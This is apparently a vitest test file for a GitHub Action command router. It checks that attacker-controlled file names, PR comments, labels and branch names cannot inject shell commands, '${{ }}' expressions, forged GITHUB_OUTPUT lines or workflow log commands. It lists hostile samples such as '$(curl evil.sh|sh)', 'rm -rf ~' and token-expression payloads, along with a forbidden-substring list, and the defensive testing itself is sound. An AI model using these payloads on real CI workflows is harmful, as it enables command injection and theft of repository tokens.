/**
 * Injection: hostile changed-file names, comment text, labels and branch names must not reach an
 * output (or a matrix value) in a form a downstream `run:` step or `${{ }}` expression would
 * execute; and no line break in any input can forge a GITHUB_OUTPUT line.
 *
 * Checked at the routeRepository → outputsFromResult level and against both output writers
 * (src/action/output-file.ts for the cold path, @actions/core's setOutput for the full path).
 */
import * as core from '@actions/core';
import { cpSync, mkdirSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import type { EventContext } from '../../src/action/event.js';
import { readInputs } from '../../src/action/inputs.js';
import { formatOutputHeredoc, writeOutputs } from '../../src/action/output-file.js';
import { emptyOutputs, OUTPUT_NAMES, outputsFromResult, SAFE_MATRIX_STRING, unsafeMatrixProblem, type ActionOutputs } from '../../src/app/route-outputs.js';
import { logBlock, quoted } from '../../src/action/annotations.js';
import { resolveTrigger } from '../../src/core/request/request-from-event.js';
import { routeRepository, type RunOptions } from '../../src/app/run-route.js';
import type { RouteResult } from '../../src/app/route-result.js';
import { validFlags } from '../../src/core/intent/intent-flags.js';
import { parseComment } from '../../src/core/request/parse-command.js';
import type { MatrixEntry, RouteRequest } from '../../src/core/types.js';
import { parseGithubOutput } from '../support/github-output.js';
import { pullRequestPayload } from '../support/payloads.js';
import { bundledConfig } from '../core/nl/load-config.js';

const SHA = 'c0ffee0000000000000000000000000000000000';
const TOKEN_EXPR = '${{ github.token }}';
/** Changed-file names an attacker can give a pull request. */
const HOSTILE_FILES = [
  '$(id).ts',
  '`x`.ts',
  'a;rm -rf ~.ts',
  '-rf.ts',
  'evil\nname.ts',
  `${TOKEN_EXPR}.ts`,
  'src/api/$(curl evil.sh|sh).ts',
  '--help.ts',
  "it's.ts",
  'a|b.ts',
  'a&b.ts',
  'a>b.ts',
];
/** Substrings none of which may appear in any output value. */
const FORBIDDEN = ['$(', '`', ';', '${{', '\n', '\r', '|', '&', '>', '<', "'", 'rm -rf', 'curl'];

let base = '';
let example = '';
let hostile = '';

function plan(id: string, wave: number, files: string[], agents: string[]): string {
  return `---\nphase: 3\nplan: "${id}"\nwave: ${wave}\nagents: ${JSON.stringify(agents)}\nfiles_modified: ${JSON.stringify(files)}\n---\n# ${id}\n`;
}

beforeAll(() => {
  base = mkdtempSync(join(tmpdir(), 'legion-injection-'));
  example = join(base, 'example');
  cpSync(resolve('examples', 'basic'), example, { recursive: true });
  hostile = join(base, 'hostile');
  cpSync(example, hostile, { recursive: true });
  const phase = join(hostile, '.planning', 'phases', '03-hostile');
  mkdirSync(phase, { recursive: true });
  // 03-01 declares every hostile name plus two safe ones; 03-02 declares `**` (matches everything).
  writeFileSync(
    join(phase, '03-01-PLAN.md'),
    plan('03-01', 1, [...HOSTILE_FILES, 'src/ok.ts', 'src/**/*.{ts,tsx}'], ['engineering-senior-developer', '$(id)', '-rf', 'a;b', TOKEN_EXPR]),
  );
  writeFileSync(join(phase, '03-02-PLAN.md'), plan('03-02', 2, ['**'], ['engineering-backend-architect']));
  writeFileSync(join(hostile, '.planning', 'STATE.md'), '# State\n- **Phase**: 3 of 3\n- **Status**: planned\n');
});

afterAll(() => {
  if (base) rmSync(base, { recursive: true, force: true });
});

function route(body: string, options: Partial<RunOptions> = {}): { result: RouteResult; outputs: ActionOutputs } {
  const request = parseComment(body, '/legion', 'octocat') as RouteRequest;
  expect(request, `not a command: ${body}`).not.toBeNull();
  const result = routeRepository(request, { repoRoot: hostile, ...options });
  expect(result.errorCode).not.toBe('E099');
  return { result, outputs: outputsFromResult(result, SHA) };
}

/** No output, and no matrix value, carries any hostile fragment in executable form. */
/** Every line of changed-files-list is a plain safe path, a quoted \\ooo-escaped one, or the truncation line. */
function expectInertFileList(value: string): void {
  if (value === '') return;
  for (const line of value.split('\n')) expect(line).toMatch(/^(?:[A-Za-z0-9._/+@:,=-]+|"(?:[A-Za-z0-9._/+@:,=-]|\\[0-3][0-7]{2})+"|#truncated:\d+)$/);
}

function expectClean(outputs: ActionOutputs): void {
  for (const [name, value] of Object.entries(outputs)) {
    // changed-files-list names the files by design: one inert, encoded word per line (checked below).
    if (name === 'changed-files-list') continue;
    for (const fragment of FORBIDDEN) expect(value.includes(fragment), `${name} contains ${JSON.stringify(fragment)}: ${value}`).toBe(false);
  }
  expectInertFileList(outputs['changed-files-list']);
  const matrix = JSON.parse(outputs.matrix) as { include: MatrixEntry[] };
  expect(unsafeMatrixProblem(matrix)).toBeNull();
  for (const entry of matrix.include) {
    for (const value of Object.values(entry)) {
      for (const s of typeof value === 'string' ? [value] : Array.isArray(value) ? value : []) {
        if (typeof s === 'string') expect(SAFE_MATRIX_STRING.test(s), s).toBe(true);
      }
    }
  }
}

describe('injection: hostile changed-file names', () => {
  it('a pull request changing $(id).ts, `x`.ts, a;rm -rf ~.ts, -rf.ts and a name with a newline: files are matched, never echoed', () => {
    const { result, outputs } = route('/legion build 3', { changedFiles: { files: HOSTILE_FILES, complete: true } });
    expect(result.ok).toBe(true);
    // Both plans are affected (03-01 names the files, 03-02 declares `**`): the names select
    // plans but only the count reaches the matrix.
    expect(result.matrix.include.map((e) => e['plan'])).toEqual(['03-01', '03-02']);
    // 03-01 names 11 of them (its `evil\nname.ts` entry is refused: control characters), `**` all 12.
    expect(result.matrix.include.map((e) => e['changed_files'])).toEqual([HOSTILE_FILES.length - 1, HOSTILE_FILES.length]);
    expect(result.diagnostics.some((d) => d.code === 'W020' && d.message.includes('control characters'))).toBe(true);
    expect(outputs.count).toBe('2');
    expectClean(outputs);
  });

  it('a plan declaring such files has them omitted from the matrix and counted in unsafe_values_omitted', () => {
    const { result, outputs } = route('/legion build 3');
    const entry = result.matrix.include.find((e) => e['plan'] === '03-01') as MatrixEntry;
    expect(entry['files']).toEqual(['src/ok.ts', 'src/**/*.{ts,tsx}']);
    expect(entry['agents']).toEqual(['engineering-senior-developer']);
    // 12 hostile file names + 4 hostile agent names.
    expect(entry['unsafe_values_omitted']).toBe(HOSTILE_FILES.length + 4);
    expectClean(outputs);
  });

  it('hostile names in the examples repository (no plan names them) route normally', () => {
    const { result, outputs } = route('/legion build', { repoRoot: example, changedFiles: { files: [...HOSTILE_FILES, 'src/api/orders.ts'], complete: true } });
    expect(result.ok).toBe(true);
    expect(result.matrix.include.map((e) => e['plan'])).toEqual(['02-01']);
    expectClean(outputs);
  });
});

describe('injection: comment text', () => {
  it('`${{ github.token }}` and $(id) in free text reach the job only as text_b64 (base64)', () => {
    // (`-rf` on its own would be read as a mistyped flag and rejected with E010.)
    const text = `fix ${TOKEN_EXPR} $(id) \`id\` ; rm ~/x | sh`;
    const { result, outputs } = route(`/legion plan ${text}`);
    expect(result.ok).toBe(true);
    const entry = result.matrix.include[0] as MatrixEntry;
    expect(entry['text_b64']).toMatch(/^[A-Za-z0-9+/]+=*$/);
    expect(Buffer.from(entry['text_b64'] as string, 'base64').toString('utf8')).toBe(text);
    expectClean(outputs);
  });

  it.each([
    ['as a flag', `/legion build --${TOKEN_EXPR}`],
    ['as a command word', '/legion $(id) build'],
    ['as a phase', '/legion build --phase=$(id)'],
    ['with a forged output after a line break', `/legion build\nhas-work=true\nmatrix={"include":[{"x":"$(id)"}]}`],
    ['with a CR', '/legion build --just-harden\rhas-work=true'],
    ['with the heredoc delimiter prefix', '/legion plan ghadelimiter_00000000-0000-0000-0000-000000000000\nhas-work=true'],
    ['with a NUL byte', '/legion build --just\u0000-harden'],
  ])('%s: rejected or routed, outputs stay clean', (_label, body) => {
    const { result, outputs } = route(body);
    if (!result.ok) expect(outputs['error-code']).toMatch(/^E\d{3}$/);
    expectClean(outputs);
    expect(JSON.parse(outputs.flags)).toEqual((JSON.parse(outputs.flags) as string[]).filter((f) => /^--[a-z0-9-]+(=[a-z0-9._-]+)?$/.test(f)));
  });
});

describe('injection: labels and branch names', () => {
  const config = bundledConfig();
  function trigger(labels: string[], headRef: string) {
    const payload = pullRequestPayload('labeled', labels, { added: labels[0] });
    (payload['pull_request'] as Record<string, Record<string, unknown>>)['head']!['ref'] = headRef;
    const context: EventContext = { eventName: 'pull_request', action: 'labeled', payload, repo: { owner: 'o', repo: 'r' }, actor: headRef, sha: SHA };
    return resolveTrigger(
      context,
      readInputs((name) => (name === 'label-prefix' ? 'legion:' : '')),
      () => validFlags(config),
    );
  }

  it.each([
    [[`legion:${TOKEN_EXPR}`, 'just-harden'], TOKEN_EXPR],
    [['legion:$(id)', 'bug'], '$(id)'],
    [['just-harden', 'legion:just-harden;rm -rf ~'], 'main;rm -rf ~'],
    [['just-harden', `${TOKEN_EXPR}`], '`id`'],
  ])('labels %j on branch %s', (labels, branch) => {
    const t = trigger(labels, branch);
    if (t.kind !== 'route') {
      expect(t.kind).toBe('ignore');
      return;
    }
    const result = routeRepository(t.request, { repoRoot: hostile, changedFiles: { files: ['src/ok.ts'], complete: true } });
    expect(result.errorCode).not.toBe('E099');
    const outputs = outputsFromResult(result, SHA);
    expectClean(outputs);
    expect(JSON.stringify(outputs)).not.toContain(branch);
  });
});

describe('GITHUB_OUTPUT: no input can forge an output line', () => {
  const dir = (): string => mkdtempSync(join(tmpdir(), 'legion-output-'));
  const saved = process.env['GITHUB_OUTPUT'];
  afterEach(() => {
    if (saved === undefined) delete process.env['GITHUB_OUTPUT'];
    else process.env['GITHUB_OUTPUT'] = saved;
  });

  const bodies = [
    '/legion build\nhas-work=true\ncount=999\n',
    '/legion plan ghadelimiter_x\nghadelimiter_x\nhas-work<<EOF\ntrue\nEOF\n',
    `/legion build --just-harden ${TOKEN_EXPR}\r\nmatrix={"include":[{"cmd":"$(id)"}]}`,
    '/legion $(id)\nerror-code=\nhas-work=true',
  ];

  it.each(bodies)('routed comment %j → exactly the 12 outputs, through output-file.ts and @actions/core', (body) => {
    const { outputs } = route(body, { changedFiles: { files: HOSTILE_FILES, complete: true } });
    // 1. The cold-path writer.
    const cold = join(dir(), 'output');
    writeFileSync(cold, '');
    expect(writeOutputs(outputs, cold)).toBe(true);
    const coldParsed = parseGithubOutput(readFileSync(cold, 'utf8'));
    expect(Object.keys(coldParsed).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(coldParsed).toEqual(outputs);
    // 2. @actions/core, as the full path publishes them.
    const full = join(dir(), 'output');
    writeFileSync(full, '');
    process.env['GITHUB_OUTPUT'] = full;
    for (const name of OUTPUT_NAMES) core.setOutput(name, outputs[name]);
    const fullParsed = parseGithubOutput(readFileSync(full, 'utf8'));
    expect(Object.keys(fullParsed).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(fullParsed).toEqual(outputs);
    expect(fullParsed['has-work']).toBe(outputs['has-work']);
  });

  it('even raw values with line breaks, `name=value` lines and `ghadelimiter_` text read back as themselves', () => {
    const hostileValues: ActionOutputs = { ...emptyOutputs() };
    OUTPUT_NAMES.forEach((name, i) => {
      hostileValues[name] = `v${i}\nhas-work=true\r\ncount=999\nghadelimiter_${'0'.repeat(8)}\nmatrix<<EOF\n{"include":[1]}\nEOF\n`;
    });
    const file = join(dir(), 'output');
    writeFileSync(file, '');
    writeOutputs(hostileValues, file);
    process.env['GITHUB_OUTPUT'] = file;
    for (const name of OUTPUT_NAMES) core.setOutput(name, hostileValues[name]);
    const text = readFileSync(file, 'utf8');
    // Two writers, same 12 names each: the second write of a name wins, with the same value.
    const parsed = parseGithubOutput(text);
    expect(Object.keys(parsed).sort()).toEqual([...OUTPUT_NAMES].sort());
    expect(parsed).toEqual(hostileValues);
  });

  it('a value containing the exact heredoc delimiter is refused, never written', () => {
    const delimiter = 'ghadelimiter_11111111-2222-3333-4444-555555555555';
    expect(() => formatOutputHeredoc('has-work', `x\n${delimiter}\nhas-work=true`, delimiter)).toThrow(/delimiter/);
    expect(() => formatOutputHeredoc('a\nb', 'x', delimiter)).toThrow(/line breaks/);
  });
});

describe('step log: untrusted text cannot start a workflow command', () => {
  it.each(['x\n::set-output name=has-work::true', '\r::add-mask::secret', 'ok\n  ::stop-commands::tok', '\u0085::error::x'])('%j', (text) => {
    for (const line of logBlock(text).split(/\r\n|\r|\n/)) expect(line.trimStart().startsWith('::')).toBe(false);
    expect(quoted(text)).not.toMatch(/[\r\n]/);
  });
});
